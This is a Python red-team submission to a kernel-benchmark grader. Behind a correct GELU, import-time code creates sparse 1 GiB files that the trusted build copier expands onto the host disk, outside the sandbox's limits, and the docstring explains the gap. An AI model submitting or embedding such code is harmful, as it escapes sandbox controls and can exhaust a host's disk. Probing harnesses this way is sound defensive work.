"""An honest erf GELU whose build stage leaves sparse files in its extensions folder: each `ftruncate`d to 1 GiB, they
hold no memory in the build sandbox's tmpfs (its memory cap never sees them) and no disk, but the trusted worker copies
the build folder into the host's build cache with `shutil.copyfileobj` (harness/build.py `_copy_plain`), which writes
every hole out as zeros: 1 GiB of the host's disk per file, as root, outside every limit of the sandbox. Only
RLIMIT_FSIZE (8 GiB a file) bounds one file, and nothing bounds their number or the folder's total (session 39 moved
the stdout log onto a memory-capped tmpfs for exactly this: a submission filling the host's disk). The cached build is
then copied again into the grading sandbox's tmpfs work dir (`seed_work_dir`), zeros and all. Red team, session 42
(CPU, strong sandbox). _GIB sets the total (3 here: a demonstration; 8 files of 8 GiB
each would take 64 GiB).
Problem: v3/level1/26_GELU_
Verdict: compile_error
Device: cpu
Options: builds
"""
import math
import os

import torch
import torch.nn as nn

if False:
    from torch.utils.cpp_extension import load_inline  # noqa: F401  (names load_inline: the build stage runs first)

_GIB = 3
_dir = os.path.join(os.environ.get("TORCH_EXTENSIONS_DIR", os.getcwd()), "pad")
if not os.path.isdir(_dir):  # the build stage: nothing else is built
    os.makedirs(_dir, exist_ok=True)
    for i in range(_GIB):
        with open(os.path.join(_dir, f"hole{i}.bin"), "wb") as f:
            f.truncate(1 << 30)


class Model(nn.Module):
    def forward(self, x):
        return 0.5 * x * (1.0 + torch.erf(x / math.sqrt(2.0)))
